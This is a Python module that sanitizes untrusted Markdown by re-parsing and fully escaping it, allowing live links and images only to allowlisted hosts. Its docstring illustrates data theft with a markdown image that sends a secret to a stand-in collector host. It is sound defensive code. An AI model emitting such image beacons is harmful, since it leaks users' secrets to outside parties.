"""Untrusted text made inert before it is rendered as Markdown (a page, a Markdown file).

Model answers, tool output, document passages and everything a spec carries (name, description,
instructions, starters) come from someone else: a markdown image in them is fetched by the
person's browser the moment it is drawn (``![](https://collector/?q=SECRET)`` sends the secret
out), and a link can lead anywhere. ``inert_markdown`` parses the text (CommonMark, with GFM
tables and strike-through) and writes it back as Markdown in which every character of text is
escaped; the only live constructs are those this module writes itself:

- emphasis, headings, lists, quotes, tables and code keep their shape;
- a link or an image stays live only when it is ``http(s)`` to a host the policy permits (the
  administrator's allowlist); any other is written as plain text and reported in ``notes``;
- raw HTML is shown as text (and reported), never rendered;
- bare addresses (``https://…``, ``www.…``) are escaped, so that the renderer's autolinking
  does not turn them into links.

Parsing then writing, rather than escaping a few characters in place, is what makes the result
safe whatever the input: two Markdown parsers may disagree on how to read odd input, but every
character of text in the output is escaped, so nothing the input says can become a construct.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Literal, Protocol
from urllib.parse import quote, urlsplit

from markdown_it import MarkdownIt
from markdown_it.token import Token

NoteKind = Literal["image", "link", "html"]
ADDRESS_SHOWN = 80  # characters of an address written as text (a data: URI can be huge)
# Escaped everywhere: what starts an inline construct (emphasis, code, link, image, HTML, strike,
# table cell, maths, Streamlit's ":red[...]"), and the escape itself.
ALWAYS = frozenset("\\`*_[]<|~$")
_DIRECTIVE = re.compile(r"(?<!\\):(?=[A-Za-z])")  # Streamlit's ":red[...]", ":material/home:"
_ENTITY = re.compile(r"&(?=#?\w+;)")  # "&amp;" stays these five characters
# At the start of a line: "#", "-", "+", "=", ">", or digits followed by "." or ")".
_LINE_START = re.compile(r"^(\s*\d{1,9})([.)])|^(\s*)([#\-+=>])")
_HOST = re.compile(r"^[A-Za-z0-9.\-]+(?::\d{1,5})?$|^\[[0-9A-Fa-f:.]+\](?::\d{1,5})?$")
_URL_SAFE = ":/?#@!$&'*+,;=%-._~"  # what stays as is in a live address; the rest is %-encoded
_FENCE_INFO = re.compile(r"[^A-Za-z0-9_+\-]")
_BACKTICKS = re.compile(r"`+")
WORD_JOINER = "\u2060"
# Where an automatic link starts: before "://", before the "." of "www.", before an e-mail's "@".
_AUTOLINK = re.compile(r"(?i)[a-z]:(?=//)|\bwww\.|[\w.+-]@(?=\w)")
_ADDRESS = re.compile(
    r"(?i)\b(?:[a-z][a-z0-9+.-]*://|www\.)[^\s<>\"'«»]*[^\s<>\"'«».,;:!?)\]]"
    r"|[\w.+-]+@[\w-]+(?:\.[\w-]+)+"
)
_RULES = {"left": ":---", "center": ":---:", "right": "---:"}


class HostPolicy(Protocol):
    """Which hosts a live link or image may point to."""

    def permits(self, host: str) -> bool: ...


class NoHosts:
    """The policy when nothing is allowed: every link and image is shown as text."""

    def permits(self, host: str) -> bool:
        return False


@dataclass(frozen=True)
class Note:
    """Something the text asked for that is shown as text instead."""

    kind: NoteKind
    address: str = ""  # the host (or the scheme: "data", "javascript"); "" for HTML


@dataclass(frozen=True)
class InertText:
    markdown: str
    notes: tuple[Note, ...] = ()


def inert_markdown(text: str, policy: HostPolicy | None = None) -> InertText:
    """``text`` as Markdown that fetches nothing and links only to permitted hosts, with a note
    for each kind of thing shown as text instead (once per host)."""
    writer = _Writer(policy or NoHosts())
    tokens = _parser().parse(text or "")
    blocks = writer.blocks(_tree(tokens))
    return InertText("\n\n".join(b for b in blocks if b.strip()), tuple(writer.notes))


def literal(text: str) -> str:
    """``text`` shown exactly as typed where Markdown is rendered (a label, a title): every
    ASCII punctuation escaped, line breaks kept as hard breaks."""
    lines = [plain_text(line) for line in (text or "").splitlines()]
    return "\\\n".join(lines)


def safe_address(url: str, policy: HostPolicy) -> str | None:
    """``url`` encoded for a live link if it is ``http(s)`` to a permitted host, else None."""
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not _HOST.match(parts.netloc):
        return None  # no user name, no backslash, nothing a browser may read another way
    host = (parts.hostname or "").lower().rstrip(".")
    if not host or not policy.permits(host):
        return None
    return quote(url.strip(), safe=_URL_SAFE)


def address_host(url: str) -> str:
    """What a note names: the host of an address, or its scheme (``data``, ``javascript``)."""
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return _shorten(url)
    if parts.hostname:
        return parts.hostname
    if parts.scheme:
        return parts.scheme.lower()
    return _shorten(url)


# --- parsing ---------------------------------------------------------------------------------


@dataclass
class _Node:
    token: Token
    children: list[_Node] = field(default_factory=list)


def _parser() -> MarkdownIt:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _tree(tokens: Iterable[Token]) -> list[_Node]:
    """markdown-it's flat stream (``x_open`` ... ``x_close``) as nested nodes."""
    root: list[_Node] = []
    stack: list[_Node] = []
    for token in tokens:
        if token.nesting == -1:
            if stack:
                stack.pop()
            continue
        node = _Node(token)
        (stack[-1].children if stack else root).append(node)
        if token.nesting == 1:
            stack.append(node)
    return root


# --- writing ---------------------------------------------------------------------------------


def _escape(text: str, line_start: bool = False, specials: frozenset[str] = ALWAYS) -> str:
    out = "".join("\\" + c if c in specials else c for c in text)
    out = _ENTITY.sub(r"\\&", out)
    out = _DIRECTIVE.sub(r"\\:", out)
    if line_start:  # what starts a block only there: a heading, a list, a quote, an underline
        out = _LINE_START.sub(_escape_mark, out, count=1)
    return out


def _escape_mark(match: re.Match[str]) -> str:
    if match.group(2):
        return match.group(1) + "\\" + match.group(2)
    return match.group(3) + "\\" + match.group(4)


def _unlinked(text: str, line_start: bool = False, specials: frozenset[str] = ALWAYS) -> str:
    """Escaped, with a word joiner where a GFM renderer would start an automatic link: it links
    the decoded text, so escaping alone does not stop it (checked in Streamlit)."""
    joined = _AUTOLINK.sub(lambda m: m.group(0)[:-1] + WORD_JOINER + m.group(0)[-1], text)
    return _escape(joined, line_start, specials)


def plain_text(
    text: str,
    line_start: bool = True,
    code_addresses: bool = True,
    specials: frozenset[str] = ALWAYS,
) -> str:
    """Text shown as typed where Markdown is rendered, with addresses (``https://…``, ``www.…``,
    e-mail) as code: readable, copied exactly, never a link. ``line_start``: the text may begin
    a line, where ``#``, ``-``, ``1.`` would start a block."""
    if not code_addresses:
        return _unlinked(text, line_start, specials)
    out, start = [], 0
    for match in _ADDRESS.finditer(text):
        out.append(_unlinked(text[start : match.start()], line_start and start == 0, specials))
        out.append(_code_span(match.group(0)))
        start = match.end()
    out.append(_unlinked(text[start:], line_start and start == 0, specials))
    return "".join(out)


def _code_span(content: str) -> str:
    longest = max((len(run) for run in _BACKTICKS.findall(content)), default=0)
    ticks = "`" * (longest + 1)
    pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
    return f"{ticks}{pad}{content}{pad}{ticks}"


def _shorten(text: str) -> str:
    text = " ".join(text.split())
    return text if len(text) <= ADDRESS_SHOWN else text[: ADDRESS_SHOWN - 1] + "…"


def _align(styles: list[str], index: int) -> str:
    style = styles[index] if index < len(styles) else ""
    return style.removeprefix("text-align:").strip()


def _indent(text: str, first: str, rest: str) -> str:
    lines = text.split("\n")
    out = [first + lines[0]]
    out += [(rest + line) if line else rest.rstrip() for line in lines[1:]]
    return "\n".join(out)


class _Writer:
    def __init__(self, policy: HostPolicy) -> None:
        self.policy = policy
        self.notes: list[Note] = []
        self.in_table = False  # a code span's ``|`` would split a cell: code is text there

    def note(self, kind: NoteKind, address: str = "") -> None:
        item = Note(kind, address)
        if item not in self.notes:
            self.notes.append(item)

    # blocks

    def blocks(self, nodes: list[_Node]) -> list[str]:
        return [self.block(node) for node in nodes]

    def block(self, node: _Node) -> str:
        token = node.token
        kind = token.type
        if kind == "paragraph_open":
            return self.inline_of(node)
        if kind == "heading_open":
            level = min(max(int(token.tag[1:] or 1), 1), 6)
            return "#" * level + " " + self.inline_of(node).replace("\\\n", " ").replace("\n", " ")
        if kind == "blockquote_open":
            inner = "\n\n".join(self.blocks(node.children))
            return "\n".join(f"> {line}" if line else ">" for line in inner.split("\n"))
        if kind in ("bullet_list_open", "ordered_list_open"):
            return self.list_block(node)
        if kind in ("fence", "code_block"):
            return self.code_block(token)
        if kind == "hr":
            return "---"
        if kind == "html_block":
            self.note("html")
            return literal(token.content.rstrip("\n"))
        if kind == "table_open":
            return self.table(node)
        if kind == "inline":
            return self.inline(token.children or [])
        return literal(token.content)  # a block type this module does not know: as text

    def inline_of(self, node: _Node) -> str:
        return "".join(self.block(child) for child in node.children)

    def list_block(self, node: _Node) -> str:
        ordered = node.token.type == "ordered_list_open"
        number = int(node.token.attrGet("start") or 1) if ordered else 0
        loose = any(
            child.token.type == "paragraph_open" and not child.token.hidden
            for item in node.children
            for child in item.children
        )
        joiner = "\n\n" if loose else "\n"
        items = []
        for item in node.children:
            marker = f"{number}. " if ordered else "- "
            number += 1
            body = joiner.join(self.block(child) for child in item.children)
            items.append(_indent(body, marker, " " * len(marker)))
        return joiner.join(items)

    def code_block(self, token: Token) -> str:
        content = token.content if token.content.endswith("\n") else token.content + "\n"
        longest = max((len(run) for run in _BACKTICKS.findall(content)), default=0)
        fence = "`" * max(3, longest + 1)
        info = _FENCE_INFO.sub("", (token.info or "").split(" ")[0])[:30]
        return f"{fence}{info}\n{content}{fence}"

    def table(self, node: _Node) -> str:
        rows: list[list[str]] = []
        aligns: list[str] = []
        self.in_table = True
        for section in node.children:
            for row in section.children:
                cells = []
                for cell in row.children:
                    cells.append(self.inline_of(cell).replace("\n", " ") or " ")
                    if section.token.type == "thead_open":
                        aligns.append(str(cell.token.attrGet("style") or ""))
                rows.append(cells)
        self.in_table = False
        if not rows:
            return ""
        width = max(len(r) for r in rows)

        def line(cells: list[str]) -> str:
            return "| " + " | ".join(cells + [" "] * (width - len(cells))) + " |"

        rule = [_RULES.get(_align(aligns, i), "---") for i in range(width)]
        lines = [line(rows[0]), "| " + " | ".join(rule) + " |"]
        return "\n".join(lines + [line(r) for r in rows[1:]])

    # inline

    def inline(self, tokens: list[Token]) -> str:
        out: list[str] = []
        index = 0
        while index < len(tokens):
            token = tokens[index]
            kind = token.type
            if kind == "link_open":
                depth, end = 1, index + 1
                while end < len(tokens) and depth:
                    depth += {"link_open": 1, "link_close": -1}.get(tokens[end].type, 0)
                    end += 1
                out.append(self.link(token, tokens[index + 1 : end - 1]))
                index = end
                continue
            out.append(self.inline_token(token))
            index += 1
        return "".join(out)

    def inline_token(self, token: Token) -> str:
        kind = token.type
        if kind == "text":
            return plain_text(token.content, code_addresses=not self.in_table)
        if kind == "softbreak":
            return "\n"
        if kind == "hardbreak":
            return "\\\n"
        if kind == "code_inline":
            return _unlinked(token.content) if self.in_table else _code_span(token.content)
        if kind in ("em_open", "em_close"):
            return "*"
        if kind in ("strong_open", "strong_close"):
            return "**"
        if kind in ("s_open", "s_close"):
            return "~~"
        if kind == "image":
            return self.image(token)
        if kind == "html_inline":
            self.note("html")
            return _unlinked(token.content)
        return _unlinked(token.content)

    def address(self, url: str) -> str:
        """An address shown instead of followed: as code, or escaped in a table cell."""
        short = _shorten(url)
        return _unlinked(short) if self.in_table else _code_span(short)

    def link(self, token: Token, inner: list[Token]) -> str:
        href = str(token.attrGet("href") or "")
        text = self.inline(inner)
        address = safe_address(href, self.policy)
        if address is not None:
            return f"[{text or _unlinked(href)}]({address})"
        self.note("link", address_host(href))
        shown = self.address(href)
        autolink = token.markup in ("autolink", "linkify")
        if autolink or not text.strip() or text == shown:
            return shown
        return f"{text} ({shown})"

    def image(self, token: Token) -> str:
        src = str(token.attrGet("src") or "")
        alt = self.inline(token.children or [])
        address = safe_address(src, self.policy)
        if address is not None:
            return f"![{alt}]({address})"
        self.note("image", address_host(src))
        shown = self.address(src)
        return f"{alt} ({shown})" if alt.strip() else f"({shown})"
